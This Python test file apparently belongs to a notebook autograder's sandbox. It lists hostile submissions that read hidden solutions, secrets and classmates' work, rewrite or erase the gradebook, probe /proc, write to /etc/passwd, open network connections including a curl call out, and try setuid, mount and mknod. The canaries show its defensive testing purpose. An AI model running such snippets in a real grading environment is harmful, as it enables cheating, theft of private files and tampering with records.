"""Reading what is private, writing outside, leaving by the network.

Whoever finds something hands it in as the answer: a canary in a result is a leak.
"""

from __future__ import annotations

from tests.grading.hostile import Corpus, Stage, Submission

CORPUS = Corpus()
_add = CORPUS.code


def _reader(*paths: str) -> str:
    """Code that reads the first of several files that can be read."""
    return f"""
found = []
for path in {list(paths)!r}:
    try:
        found.append(open(path, 'rb').read().decode('latin-1'))
    except OSError:
        pass
answer = 'CANARY ' + found[0] if found else 'nothing'"""


@CORPUS.sample("reached_out")
def reads_the_private_source(stage: Stage) -> Submission:
    root = stage.course.root
    return stage.book(_reader(f"{root}/source/hw/hw.py", f"{root}/source/hw/hw.ipynb", "../../../source/hw/hw.ipynb",
                              "../../source/hw/hw.py", f"{root}/solution/hw/hw.ipynb", f"{root}/source/questions.py"))


@CORPUS.sample("reached_out")
def reads_the_secret(stage: Stage) -> Submission:
    root = stage.course.root
    return stage.book(_reader(f"{root}/private/secret", f"{root}/private/variants/hw/{stage.student}.json",
                              f"{root}/nbgrader_config.py"))


@CORPUS.sample("reached_out")
def reads_other_submissions(stage: Stage) -> Submission:
    root = stage.course.root
    return stage.book(_reader(f"{root}/submitted/victim1/hw/hw.ipynb", "../../victim1/hw/hw.ipynb",
                              f"{root}/autograded/victim1/hw/hw.ipynb"))


@CORPUS.sample("reached_out")
def reads_the_grade_book(stage: Stage) -> Submission:
    return stage.book(_reader(f"{stage.course.root}/gradebook.db", "../../../gradebook.db", "/gradebook.db"))


@CORPUS.sample("reached_out")
def changes_the_grade_book(stage: Stage) -> Submission:
    return stage.book(f"""
import sqlite3
try:
    book = sqlite3.connect({str(stage.course.root / "gradebook.db")!r})
    book.execute('update grade set auto_score = 1000')
    book.commit()
except sqlite3.Error:
    open({str(stage.course.root / "gradebook.db")!r}, 'wb').write(b'')""")


_add("searches_the_whole_disk", """
import os, time
found, end = None, time.time() + 1.5
for top in ('/tmp', '/home', '/root', '/opt', '/mnt', '/srv', '/var', '/work', '/run', '/proc', '/'):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if time.time() > end:
                break
            if name.endswith(('.db', 'secret', 'questions.py')) or (name == 'hw.py' or 'issued' in name):
                try:
                    text = open(path, 'rb').read(100_000)
                except OSError:
                    continue
                if b'CANARY' in text:
                    found = text
answer = f'CANARY {found}' if found else 'nothing'""", "reached_out", "time")
_add("reads_the_environment_of_others", """
import glob
found = []
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        found.append(open(path, 'rb').read())
    except OSError:
        pass
answer = 'CANARY' if any(b'FINITY_TEST_CANARY' in f for f in found) else 'nothing'""", "reached_out")
_add("reads_memory_of_others", "answer = open('/proc/1/mem', 'rb').read(10)", "error", "reached_out")
# Whether a path exists can be asked without a trace; the answer is no, for it is not there.
_add("reads_through_the_root_of_others", """
import os
answer = 'CANARY' if os.path.exists('/proc/1/root/tmp/finity-canary') else 'nothing'""", "q1 malformed")
_add("writes_outside", """
import os
for path in ('/tmp/../finity-owned', '/usr/finity-owned', '/opt/packages/finity-owned', '/etc/passwd', '/finity-owned',
             '/dev/finity-owned'):
    try:
        open(path, 'w').write('owned')
        answer = f'CANARY {path}'
        break
    except OSError:
        answer = 'nothing'""", "reached_out")
_add("replaces_the_interpreter", """
import os, sys
os.replace('/home/student/hw.instances.json', sys.executable)""", "error")
_add("network", """
import socket
socket.create_connection(('192.0.2.1', 80), timeout=1)
answer = 'CANARY: connected'""", "error", "time")
_add("network_to_this_machine", """
import socket
reached = []
for port in (22, 80, 8786, 8888):
    try:
        socket.create_connection(('127.0.0.1', port), timeout=0.2)
        reached.append(port)
    except OSError:
        pass
answer = f'CANARY {reached}' if reached else 'nothing'""", "reached_out")
_add("names_on_the_network", "import socket\nanswer = 'CANARY ' + socket.gethostbyname('example.org')", "error", "time")
_add("abstract_sockets_of_others", """
import socket
names = [line.split()[-1] for line in open('/proc/net/unix') if '@' in line]
answer = f'CANARY {names}' if names else 'nothing'""", "reached_out")
_add("a_namespace_of_its_own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
mounted = libc.mount(b'none', b'/opt', b'tmpfs', 0, None)
answer = 'CANARY: mounted' if mounted == 0 else 'nothing'""", "reached_out")
# Python tells nobody of an attempt to become somebody else; the system refuses it, and that is all that happens.
_add("somebody_else", """
import os
try:
    os.setuid(0)
    answer = 'CANARY: root' if os.path.exists('/root/.bashrc') else 'nothing'
except OSError:
    answer = 'nothing'""", "q1 malformed")
_add("more_rights", """
import resource
try:
    resource.setrlimit(resource.RLIMIT_NPROC, (10_000, 10_000))
    answer = 'CANARY: more processes'
except (ValueError, OSError):
    answer = 'nothing'""", "reached_out")
# Nor of an attempt to make a device; it would be opened in /tmp, and that would be remarked.
_add("device_files", """
import os, stat
try:
    os.mknod('/tmp/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    answer = 'CANARY: ' + str(open('/tmp/disk', 'rb').read(10))
except OSError:
    answer = 'nothing'""", "q1 malformed")


@CORPUS.sample("reached_out")
def package_that_calls_home(stage: Stage) -> Submission:
    return stage.book("import subprocess\nsubprocess.run(['/usr/bin/curl', '-m', '1', 'http://192.0.2.1/'], timeout=2)")
